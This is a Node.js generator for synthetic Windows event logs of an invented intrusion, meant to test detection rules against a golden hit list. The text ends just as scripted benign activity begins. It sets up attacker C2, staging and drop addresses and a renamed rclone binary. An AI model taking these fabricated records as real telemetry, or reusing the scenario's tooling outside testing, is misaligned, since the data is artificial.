#!/usr/bin/env node
// Writes Corridor's sample intrusion ("Martel Logistique", 2026-11-20) and its golden hit list.
// Every record is invented here; the output is deterministic (seeded PRNG, fixed clock), so running
// `node samples/generate.mjs` again must leave `git status` clean.

import { createHash } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join, relative } from "node:path";
import { fileURLToPath } from "node:url";
import { parseAllDocuments } from "yaml";

const here = dirname(fileURLToPath(import.meta.url));
const rulesDir = join(here, "..", "rules");

// ---------------------------------------------------------------------------------------------
// Determinism: one seeded generator for every random choice, one fixed day.

let seed = 0x20261120;
function rand() {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const int = (lo, hi) => lo + Math.floor(rand() * (hi - lo + 1));
const pick = (list) => list[Math.floor(rand() * list.length)];
const hex = (n) => Array.from({ length: n }, () => "0123456789abcdef"[int(0, 15)]).join("");
const digest = (alg, text) => createHash(alg).update(text).digest("hex").toUpperCase();

/** Epoch ms for 2026-11-20 hh:mm:ss.mmm UTC. */
const at = (h, m, s = 0, ms = 0) => Date.UTC(2026, 10, 20, h, m, s, ms);
const iso = (t) => new Date(t).toISOString();
const sysmonTime = (t) => iso(t).replace("T", " ").replace("Z", "");

// ---------------------------------------------------------------------------------------------
// The organisation.

const DOMAIN = "MARTEL";
const DNS_DOMAIN = "ad.martel-logistique.example";
const DOMAIN_SID = "S-1-5-21-2364711904-3180451023-1949207712";
const SYSTEM = "AUTORITE NT\\Système";
const NETWORK_SERVICE = "AUTORITE NT\\SERVICE RÉSEAU";

const users = {
  "c.bernard": { rid: 1187, name: "Claire Bernard" },
  "adm.lefevre": { rid: 1105, name: "Julien Lefèvre (compte admin)" },
  "m.petit": { rid: 1192 },
  "s.moreau": { rid: 1201 },
  "l.girard": { rid: 1210 },
  "n.roux": { rid: 1214 },
  "a.fournier": { rid: 1163 },
  "p.lambert": { rid: 1178 },
  "e.bonnet": { rid: 1222 },
  "t.mercier": { rid: 1230 },
  "p.durand": { rid: 1111 },
  "administrateur": { rid: 500 },
};
const sid = (user) => `${DOMAIN_SID}-${users[user].rid}`;

const hosts = {
  ws: { name: "ws-paris-014", ip: "10.20.14.37", file: "windows/ws-paris-014.jsonl", guid: "4f1c2a9e" },
  dc: { name: "srv-lyon-dc01", ip: "10.30.1.10", file: "windows/srv-lyon-dc01.jsonl", guid: "9b07d3c1" },
  adm: { name: "ws-paris-adm01", ip: "10.20.1.15", file: "windows/ws-paris-adm01.jsonl", guid: "c3e85f20" },
};

// Attacker infrastructure (TEST-NET-2 / TEST-NET-3, documentation ranges standing in for the internet).
const STAGING = "198.51.100.23";
const C2 = "203.0.113.47";
const DROP = "198.51.100.77";
// The organisation's own internet egress (TEST-NET-1).
const CORP_EGRESS = "192.0.2.10";

// ---------------------------------------------------------------------------------------------
// Output buffers. Each record may carry `hits` (rule names it is designed to match) and
// `suppressed` (rule names whose match a filter removes): kept beside the record, never written.

/** @type {Map<string, {t:number, rec:object, hits:string[], suppressed:string[]}[]>} */
const files = new Map();
let actor = "benign"; // who the records being written belong to, for the summary only
function emit(file, t, rec, { hits = [], suppressed = [] } = {}) {
  if (!files.has(file)) files.set(file, []);
  files.get(file).push({ t, rec, hits, suppressed, actor });
}
function asAttacker(write) {
  actor = "attacker";
  write();
  actor = "benign";
}

// ---------------------------------------------------------------------------------------------
// Windows: Sysmon, Security and System records in the flat layout (NXLog style, as in the OTRF
// datasets): EventID a number, the other event data strings, Hostname plus Computer.

const binaries = {
  "powershell.exe": ["Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE", "10.0.19041.3996"],
  "cmd.exe": ["Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe", "10.0.19041.4355"],
  "wscript.exe": ["Microsoft ® Windows Based Script Host", "Microsoft ® Windows Script Host", "Microsoft Corporation", "wscript.exe", "5.812.10240.16384"],
  "rundll32.exe": ["Windows host process (Rundll32)", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RUNDLL32.EXE", "10.0.19041.3636"],
  "whoami.exe": ["whoami - displays logged on user information", "Microsoft® Windows® Operating System", "Microsoft Corporation", "whoami.exe", "10.0.19041.1"],
  "net.exe": ["Net Command", "Microsoft® Windows® Operating System", "Microsoft Corporation", "net.exe", "10.0.19041.1"],
  "net1.exe": ["Net Command", "Microsoft® Windows® Operating System", "Microsoft Corporation", "net1.exe", "10.0.19041.1"],
  "nltest.exe": ["Microsoft® Logon Server Test Utility", "Microsoft® Windows® Operating System", "Microsoft Corporation", "nltestrk.exe", "10.0.19041.1"],
  "ipconfig.exe": ["IP Configuration Utility", "Microsoft® Windows® Operating System", "Microsoft Corporation", "ipconfig.exe", "10.0.19041.1"],
  "systeminfo.exe": ["Displays system information", "Microsoft® Windows® Operating System", "Microsoft Corporation", "sysinfo.exe", "10.0.19041.1"],
  "schtasks.exe": ["Task Scheduler Configuration Tool", "Microsoft® Windows® Operating System", "Microsoft Corporation", "schtasks.exe", "10.0.19041.1503"],
  "vssadmin.exe": ["Command Line Interface for Microsoft® Volume Shadow Copy Service ", "Microsoft® Windows® Operating System", "Microsoft Corporation", "VSSADMIN.EXE", "10.0.17763.1"],
  "WMIC.exe": ["WMI Commandline Utility", "Microsoft® Windows® Operating System", "Microsoft Corporation", "wmic.exe", "10.0.19041.3636"],
  "robocopy.exe": ["Microsoft Robocopy", "Microsoft® Windows® Operating System", "Microsoft Corporation", "robocopy.exe", "10.0.17763.1"],
  "conhost.exe": ["Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE", "10.0.19041.3996"],
  "svchost.exe": ["Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe", "10.0.19041.3996"],
  "taskhostw.exe": ["Host Process for Windows Tasks", "Microsoft® Windows® Operating System", "Microsoft Corporation", "taskhostw.exe", "10.0.19041.3636"],
  "backgroundTaskHost.exe": ["Background Task Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "backgroundTaskHost.exe", "10.0.19041.3636"],
  "RuntimeBroker.exe": ["Runtime Broker", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RuntimeBroker.exe", "10.0.19041.3636"],
  "SearchProtocolHost.exe": ["Microsoft Windows Search Protocol Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "SearchProtocolHost.exe", "7.0.19041.3996"],
  "WmiPrvSE.exe": ["WMI Provider Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe", "10.0.19041.3636"],
  "wsmprovhost.exe": ["Host process for WinRM plug-ins", "Microsoft® Windows® Operating System", "Microsoft Corporation", "wsmprovhost.exe", "10.0.17763.1"],
  "gpupdate.exe": ["Microsoft® Windows Group Policy Update Utility", "Microsoft® Windows® Operating System", "Microsoft Corporation", "GPUpdate.exe", "10.0.19041.1"],
  "splwow64.exe": ["Print driver host for applications", "Microsoft® Windows® Operating System", "Microsoft Corporation", "splwow64.exe", "10.0.19041.3636"],
  "msedge.exe": ["Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe", "131.0.2903.51"],
  "ms-teams.exe": ["Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "ms-teams.exe", "24295.605.3225.8804"],
  "OneDrive.exe": ["Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "OneDrive.exe", "24.211.1020.0002"],
  "WINWORD.EXE": ["Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe", "16.0.18129.20158"],
  "EXCEL.EXE": ["Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe", "16.0.18129.20158"],
  "OUTLOOK.EXE": ["Microsoft Outlook", "Microsoft Office", "Microsoft Corporation", "Outlook.exe", "16.0.18129.20158"],
  "PsExec64.exe": ["Execute processes remotely", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexec.exe", "2.43"],
  "PSEXESVC.exe": ["PsExec Service", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexesvc.exe", "2.43"],
  "svcsync.exe": ["Rsync for cloud storage", "Rclone", "https://rclone.org", "rclone.exe", "1.68.2"],
  "GoogleUpdate.exe": ["Google Installer", "Google Update", "Google LLC", "GoogleUpdate.exe", "1.3.36.372"],
  "zabbix_agent2.exe": ["Zabbix Agent 2", "Zabbix", "Zabbix SIA", "zabbix_agent2.exe", "7.0.6.0"],
  "mmc.exe": ["Microsoft Management Console", "Microsoft® Windows® Operating System", "Microsoft Corporation", "mmc.exe", "10.0.19041.3636"],
  "notepad.exe": ["Notepad", "Microsoft® Windows® Operating System", "Microsoft Corporation", "NOTEPAD.EXE", "10.0.19041.3996"],
};
const baseName = (image) => image.slice(image.lastIndexOf("\\") + 1);

let guidCounter = 0x1a40;
let pidCounter = 3000;
function newProcess(host, image, commandLine, user, extra = {}) {
  guidCounter += int(1, 9);
  pidCounter += int(4, 40) * 4;
  return {
    host,
    image,
    commandLine,
    user,
    guid: `{${host.guid}-2b6d-673d-${guidCounter.toString(16).padStart(4, "0")}-0000000007${host === hosts.dc ? "01" : "00"}}`,
    pid: String(pidCounter),
    integrity: extra.integrity ?? (user.startsWith("AUTORITE") ? "System" : "Medium"),
    cwd: extra.cwd ?? (user.startsWith("AUTORITE") ? "C:\\Windows\\system32\\" : `C:\\Users\\${user.split("\\")[1]}\\`),
  };
}

function windowsBase(host, t, channel, provider, guid, eventId, task) {
  return {
    "@timestamp": iso(t),
    TimeCreated: iso(t),
    EventID: eventId,
    Channel: channel,
    SourceName: provider,
    ProviderGuid: guid,
    Hostname: host.name,
    Computer: host.name,
    Level: channel === "Security" ? "0" : "4",
    Task: String(task),
    Keywords: channel === "Security" ? (eventId === 4625 ? "0x8010000000000000" : "0x8020000000000000") : "0x8000000000000000",
  };
}
const SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}";
const sysmon = (host, t, eventId) => ({
  ...windowsBase(host, t, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", SYSMON_GUID, eventId, eventId),
  RuleName: "-",
  UtcTime: sysmonTime(t),
});

/** Sysmon 1: process creation. Returns the child process. */
function spawn(t, parent, image, commandLine, user, opts = {}) {
  const host = parent.host;
  const child = newProcess(host, image, commandLine, user ?? parent.user, opts);
  const [Description, Product, Company, OriginalFileName, FileVersion] = binaries[baseName(image)] ?? ["-", "-", "-", "-", "-"];
  emit(
    host.file,
    t,
    {
      ...sysmon(host, t, 1),
      ProcessGuid: child.guid,
      ProcessId: child.pid,
      Image: image,
      FileVersion,
      Description,
      Product,
      Company,
      OriginalFileName,
      CommandLine: commandLine,
      CurrentDirectory: child.cwd,
      User: child.user,
      LogonId: child.user.startsWith("AUTORITE") ? "0x3e7" : "0x4b2c1f",
      TerminalSessionId: child.user.startsWith("AUTORITE") ? "0" : "1",
      IntegrityLevel: child.integrity,
      Hashes: `MD5=${digest("md5", image).slice(0, 32)},SHA256=${digest("sha256", image)}`,
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.commandLine,
      ParentUser: parent.user,
    },
    opts,
  );
  return child;
}

/** Sysmon 3: outbound TCP connection. */
function connect(t, proc, ip, port, opts = {}) {
  const host = proc.host;
  emit(
    host.file,
    t,
    {
      ...sysmon(host, t, 3),
      ProcessGuid: proc.guid,
      ProcessId: proc.pid,
      Image: proc.image,
      User: proc.user,
      Protocol: "tcp",
      Initiated: "true",
      SourceIsIpv6: ip.includes(":") ? "true" : "false",
      SourceIp: ip.includes(":") ? "fe80::9a1c:44e0:b6d2:71f3" : host.ip,
      SourceHostname: `${host.name}.${DNS_DOMAIN}`,
      SourcePort: String(int(49700, 65000)),
      SourcePortName: "-",
      DestinationIsIpv6: ip.includes(":") ? "true" : "false",
      DestinationIp: ip,
      DestinationHostname: opts.hostname ?? "-",
      DestinationPort: String(port),
      DestinationPortName: { 80: "http", 443: "https", 445: "microsoft-ds", 88: "kerberos", 389: "ldap", 5985: "-" }[port] ?? "-",
    },
    opts,
  );
}

/** Sysmon 10: process access. */
function access(t, source, targetImage, targetPid, grantedAccess, opts = {}) {
  const host = source.host;
  emit(
    host.file,
    t,
    {
      ...sysmon(host, t, 10),
      SourceProcessGUID: source.guid,
      SourceProcessId: source.pid,
      SourceThreadId: String(int(1000, 9000)),
      SourceImage: source.image,
      TargetProcessGUID: `{${host.guid}-2b6d-673d-0c00-000000000700}`,
      TargetProcessId: targetPid,
      TargetImage: targetImage,
      GrantedAccess: grantedAccess,
      CallTrace: opts.callTrace ?? "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c0ce|UNKNOWN(00007FF6A1B2C3D4)",
      SourceUser: source.user,
      TargetUser: SYSTEM,
    },
    opts,
  );
}

/** Sysmon 11: file created. */
function createFile(t, proc, path, opts = {}) {
  const host = proc.host;
  emit(
    host.file,
    t,
    {
      ...sysmon(host, t, 11),
      ProcessGuid: proc.guid,
      ProcessId: proc.pid,
      Image: proc.image,
      TargetFilename: path,
      CreationUtcTime: sysmonTime(t),
      User: proc.user,
    },
    opts,
  );
}

/** Sysmon 13: registry value set. */
function setValue(t, proc, key, details, opts = {}) {
  const host = proc.host;
  emit(
    host.file,
    t,
    {
      ...sysmon(host, t, 13),
      EventType: "SetValue",
      ProcessGuid: proc.guid,
      ProcessId: proc.pid,
      Image: proc.image,
      TargetObject: key,
      Details: details,
      User: proc.user,
    },
    opts,
  );
}

/** Sysmon 22: DNS query. */
function dnsQuery(t, proc, name, results) {
  const host = proc.host;
  emit(host.file, t, {
    ...sysmon(host, t, 22),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    QueryName: name,
    QueryStatus: "0",
    QueryResults: results,
    Image: proc.image,
    User: proc.user,
  });
}

/** Sysmon 5: process terminated. */
function terminate(t, proc) {
  emit(proc.host.file, t, {
    ...sysmon(proc.host, t, 5),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    Image: proc.image,
    User: proc.user,
  });
}

const SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}";
const security = (host, t, eventId, task) =>
  windowsBase(host, t, "Security", "Microsoft-Windows-Security-Auditing", SECURITY_GUID, eventId, task);

function logon(host, t, user, logonType, ip, workstation, opts = {}) {
  const ntlm = opts.ntlm ?? false;
  emit(
    host.file,
    t,
    {
      ...security(host, t, 4624, 12544),
      SubjectUserSid: "S-1-0-0",
      SubjectUserName: "-",
      SubjectDomainName: "-",
      SubjectLogonId: "0x0",
      TargetUserSid: sid(user),
      TargetUserName: user,
      TargetDomainName: DOMAIN,
      TargetLogonId: `0x${hex(6)}`,
      LogonType: String(logonType),
      LogonProcessName: ntlm ? "NtLmSsp " : logonType === 10 ? "User32 " : "Kerberos",
      AuthenticationPackageName: ntlm ? "NTLM" : logonType === 10 ? "Negotiate" : "Kerberos",
      WorkstationName: ntlm ? workstation.toUpperCase() : "-",
      LogonGuid: ntlm ? "{00000000-0000-0000-0000-000000000000}" : `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`,
      TransmittedServices: "-",
      LmPackageName: ntlm ? "NTLM V2" : "-",
      KeyLength: ntlm ? "128" : "0",
      ProcessId: "0x0",
      ProcessName: "-",
      IpAddress: ip,
      IpPort: String(int(49700, 65000)),
      ImpersonationLevel: "%%1833",
      RestrictedAdminMode: "-",
      VirtualAccount: "%%1843",
      ElevatedToken: user.startsWith("adm") ? "%%1842" : "%%1843",
    },
    opts,
  );
}

function logoff(host, t, user, logonType) {
  emit(host.file, t, {
    ...security(host, t, 4634, 12545),
    TargetUserSid: sid(user),
    TargetUserName: user,
    TargetDomainName: DOMAIN,
    TargetLogonId: `0x${hex(6)}`,
    LogonType: String(logonType),
  });
}

function specialPrivileges(host, t, user) {
  emit(host.file, t, {
    ...security(host, t, 4672, 12548),
    SubjectUserSid: sid(user),
    SubjectUserName: user,
    SubjectDomainName: DOMAIN,
    SubjectLogonId: `0x${hex(6)}`,
    PrivilegeList: "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege\n\t\t\tSeEnableDelegationPrivilege",
  });
}

/** Security 4776 + 4625 on the domain controller: an NTLM network logon with a bad password. */
function failedNetworkLogon(t, user, ip, workstation, opts = {}) {
  const host = hosts.dc;
  const unknown = opts.unknownUser ?? false;
  emit(host.file, t, {
    ...security(host, t, 4776, 14336),
    PackageName: "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
    TargetUserName: user,
    Workstation: workstation.toUpperCase(),
    Status: unknown ? "0xc0000064" : "0xc000006a",
  });
  emit(
    host.file,
    t + 1,
    {
      ...security(host, t + 1, 4625, 12544),
      SubjectUserSid: "S-1-0-0",
      SubjectUserName: "-",
      SubjectDomainName: "-",
      SubjectLogonId: "0x0",
      TargetUserSid: "S-1-0-0",
      TargetUserName: user,
      TargetDomainName: DOMAIN,
      Status: "0xc000006d",
      FailureReason: "%%2313",
      SubStatus: unknown ? "0xc0000064" : "0xc000006a",
      LogonType: "3",
      LogonProcessName: "NtLmSsp ",
      AuthenticationPackageName: "NTLM",
      WorkstationName: workstation.toUpperCase(),
      TransmittedServices: "-",
      LmPackageName: "-",
      KeyLength: "0",
      ProcessId: "0x0",
      ProcessName: "-",
      IpAddress: ip,
      IpPort: String(int(49700, 65000)),
    },
    { hits: ["failed_logon"] },
  );
}

function kerberosTicket(t, user, ip, service) {
  const host = hosts.dc;
  if (service === undefined) {
    emit(host.file, t, {
      ...security(host, t, 4768, 14339),
      TargetUserName: user,
      TargetDomainName: DNS_DOMAIN.toUpperCase(),
      TargetSid: sid(user),
      ServiceName: "krbtgt",
      ServiceSid: `${DOMAIN_SID}-502`,
      TicketOptions: "0x40810010",
      Status: "0x0",
      TicketEncryptionType: "0x12",
      PreAuthType: "2",
      IpAddress: `::ffff:${ip}`,
      IpPort: String(int(49700, 65000)),
    });
  } else {
    emit(host.file, t, {
      ...security(host, t, 4769, 14337),
      TargetUserName: `${user}@${DNS_DOMAIN.toUpperCase()}`,
      TargetDomainName: DNS_DOMAIN.toUpperCase(),
      ServiceName: service,
      ServiceSid: `${DOMAIN_SID}-${int(1300, 1400)}`,
      TicketOptions: "0x40810000",
      TicketEncryptionType: "0x12",
      IpAddress: `::ffff:${ip}`,
      IpPort: String(int(49700, 65000)),
      Status: "0x0",
      LogonGuid: `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`,
      TransmittedServices: "-",
    });
  }
}

function serviceInstalled(host, t, name, imagePath, startType, account, opts = {}) {
  emit(
    host.file,
    t,
    {
      ...windowsBase(host, t, "System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", 7045, 0),
      ServiceName: name,
      ImagePath: imagePath,
      ServiceType: "user mode service",
      StartType: startType,
      AccountName: account,
    },
    opts,
  );
}

// ---------------------------------------------------------------------------------------------
// Long-running processes that started before the window (no creation record of their own).

const W = hosts.ws;
const D = hosts.dc;
const A = hosts.adm;
const CLAIRE = `${DOMAIN}\\c.bernard`;
const JULIEN = `${DOMAIN}\\adm.lefevre`;

const running = (host, image, commandLine, user) => newProcess(host, image, commandLine, user);
const ws = {
  services: running(W, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", SYSTEM),
  svchostNet: running(W, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", NETWORK_SERVICE),
  svchostSys: running(W, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYSTEM),
  wmiprvse: running(W, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", SYSTEM),
  defender: running(W, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MsMpEng.exe", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MsMpEng.exe"', SYSTEM),
  explorer: running(W, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", CLAIRE),
  outlook: running(W, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ', CLAIRE),
  edge: running(W, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window', CLAIRE),
  teams: running(W, "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe", '"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated', CLAIRE),
  onedrive: running(W, "C:\\Users\\c.bernard\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", '"C:\\Users\\c.bernard\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', CLAIRE),
  zoom: running(W, "C:\\Users\\c.bernard\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", '"C:\\Users\\c.bernard\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --autostart', CLAIRE),
};
const dc = {
  services: running(D, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", SYSTEM),
  wininit: running(D, "C:\\Windows\\system32\\wininit.exe", "wininit.exe", SYSTEM),
  svchostSys: running(D, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYSTEM),
  svchostNet: running(D, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", NETWORK_SERVICE),
  dfsr: running(D, "C:\\Windows\\System32\\dfsrs.exe", "C:\\Windows\\system32\\DFSRs.exe", SYSTEM),
  zabbix: running(D, "C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe", '"C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe" -c "C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.conf"', SYSTEM),
  defender: running(D, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MsMpEng.exe", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MsMpEng.exe"', SYSTEM),
  wsmprov: running(D, "C:\\Windows\\System32\\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", JULIEN),
};
const adm = {
  svchostSys: running(A, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYSTEM),
  svchostNet: running(A, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", NETWORK_SERVICE),
  explorer: running(A, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", JULIEN),
  terminal: running(A, "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.21.3231.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe", '"C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.21.3231.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe"', JULIEN),
  edge: running(A, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window', JULIEN),
};
const LSASS_PID = { ws: "712", dc: "656", adm: "688" };
const LSASS = "C:\\Windows\\system32\\lsass.exe";

// ---------------------------------------------------------------------------------------------
// Background activity: what the three Windows hosts do anyway between 08:40 and 09:40.

const WINDOW_START = at(8, 40);
const WINDOW_END = at(9, 40);
const randomTime = () => WINDOW_START + Math.floor(rand() * (WINDOW_END - WINDOW_START));

const webSites = [
  ["outlook.office365.com", "52.97.186.114"],
  ["login.microsoftonline.com", "20.190.177.147"],
  ["www.bing.com", "13.107.21.237"],
  ["teams.microsoft.com", "52.112.238.14"],
  ["fr.wikipedia.org", "185.15.58.224"],
  ["www.impots.gouv.fr", "145.242.11.10"],
  ["www.urssaf.fr", "185.57.117.45"],
  ["www.service-public.fr", "160.92.168.33"],
  ["www.lemonde.fr", "151.101.2.217"],
  ["martellogistique.sharepoint.com", "13.107.136.10"],
];

function backgroundWorkstation(host, p, user, count) {
  const short = user.split("\\")[1];
  for (let i = 0; i < count; i++) {
    const t = randomTime();
    switch (int(0, 11)) {
      case 0: {
        const child = spawn(t, p.svchostSys, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", user);
        terminate(t + int(800, 4000), child);
        break;
      }
      case 1:
        spawn(t, p.svchostSys, "C:\\Windows\\System32\\backgroundTaskHost.exe", '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider', user);
        break;
      case 2:
        spawn(t, p.svchostSys, "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", user);
        break;
      case 3:
        spawn(t, p.svchostSys, "C:\\Windows\\System32\\SearchProtocolHost.exe", `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${int(10, 99)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${int(10, 99)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" `, SYSTEM);
        break;
      case 4:
      case 5: {
        const [name, ip] = pick(webSites);
        dnsQuery(t, p.edge, name, `::ffff:${ip};`);
        connect(t + int(20, 200), p.edge, ip, 443, { hostname: name });
        break;
      }
      case 6: {
        const [name, ip] = pick(webSites.slice(0, 4));
        const proc = p.teams ?? p.edge;
        dnsQuery(t, proc, name, `::ffff:${ip};`);
        connect(t + int(20, 200), proc, ip, 443, { hostname: name });
        break;
      }
      case 7:
        connect(t, p.svchostNet, "10.30.1.10", pick([88, 389, 445, 135]), { hostname: `srv-lyon-dc01.${DNS_DOMAIN}` });
        break;
      case 8:
        createFile(t, p.edge, `C:\\Users\\${short}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\f_${hex(6)}`);
        break;
      case 9:
        setValue(t, p.explorer, `HKU\\${sid(short)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA`, "Binary Data");
        break;
      case 10:
        access(t, p.svchostSys, LSASS, host === W ? LSASS_PID.ws : LSASS_PID.adm, "0x1000");
        break;
      default:
        if (p.onedrive) {
          connect(t, p.onedrive, "13.107.42.12", 443, { hostname: "my.microsoftpersonalcontent.com" });
        } else {
          createFile(t, p.explorer, `C:\\Users\\${short}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\${pick(["inventaire", "rapport", "procedure"])}_${int(1, 99)}.lnk`);
        }
    }
  }
}

function backgroundDomainController(count) {
  const staff = ["m.petit", "s.moreau", "l.girard", "n.roux", "a.fournier", "p.lambert", "e.bonnet", "t.mercier", "p.durand"];
  const staffIp = () => `10.20.${pick([14, 22, 31])}.${int(20, 90)}`;
  for (let i = 0; i < count; i++) {
    const t = randomTime();
    switch (int(0, 9)) {
      case 0:
      case 1:
        kerberosTicket(t, pick(staff), staffIp());
        break;
      case 2:
      case 3:
        kerberosTicket(t, pick(staff), staffIp(), pick(["cifs/srv-lyon-dc01", "ldap/srv-lyon-dc01", "srv-lyon-dc01$", "HTTP/intranet"]));
        break;
      case 4: {
        const u = pick(staff);
        logon(D, t, u, 3, staffIp(), "-");
        logoff(D, t + int(1000, 30000), u, 3);
        break;
      }
      case 5:
        connect(t, dc.dfsr, "10.30.1.11", 5722, { hostname: `srv-lyon-dc02.${DNS_DOMAIN}` });
        break;
      case 6: {
        const child = spawn(t, dc.svchostSys, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", SYSTEM);
        terminate(t + int(500, 3000), child);
        break;
      }
      case 7:
        access(t, dc.zabbix, LSASS, LSASS_PID.dc, "0x1000");
        break;
      case 8:
        dnsQuery(t, dc.svchostNet, pick(["time.windows.com", "ctldl.windowsupdate.com", "settings-win.data.microsoft.com"]), "::ffff:20.101.57.9;");
        break;
      default:
        createFile(t, dc.dfsr, `C:\\Windows\\SYSVOL\\domain\\DfsrPrivate\\Staging\\ContentSet{${hex(8)}}-{${hex(8)}}\\${hex(8)}-${hex(4)}.frx`);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Scripted benign activity: things that look like the attack but are not (each is a near miss for
// one rule, documented in samples/README.md).

function benignScripted() {
  // ws-paris-014: the morning before the document arrives.
